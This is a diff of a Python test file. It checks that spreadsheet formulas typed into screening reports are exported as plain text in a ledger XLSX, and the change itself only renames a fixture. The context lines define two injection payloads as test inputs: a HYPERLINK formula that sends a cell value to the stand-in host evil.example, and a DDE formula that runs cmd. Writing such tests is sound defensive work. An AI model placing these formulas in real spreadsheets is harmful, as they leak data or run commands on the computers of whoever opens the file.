@@ -16,10 +16,10 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B4,"点击查看")'
 DDE = "=cmd|' /C calc'!A0"
 
 
-def test_formulas_typed_by_a_liaison_are_text_in_the_ledger_xlsx(crew, demo_tree, travel):
+def test_formulas_typed_by_a_liaison_are_text_in_the_ledger_xlsx(med, demo_tree, travel):
     travel("2026-03-09")
     screening.screening_report_submit(
-        actor=crew["liaison_a1"],
+        actor=med["liaison_a"],
         village=demo_tree[VILLAGE_A1],
         disputes=[
             passed_up_input(
@@ -33,7 +33,7 @@ def test_formulas_typed_by_a_liaison_are_text_in_the_ledger_xlsx(crew, demo_tree
         ],
     )
 
-    data = ledger.export_xlsx(user=crew["handler_a"], filters={}, today=dt.date(2026, 3, 10))
+    data = ledger.export_xlsx(user=med["handler_a"], filters={}, today=dt.date(2026, 3, 10))
 
     ws = load_workbook(io.BytesIO(data)).active
     cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
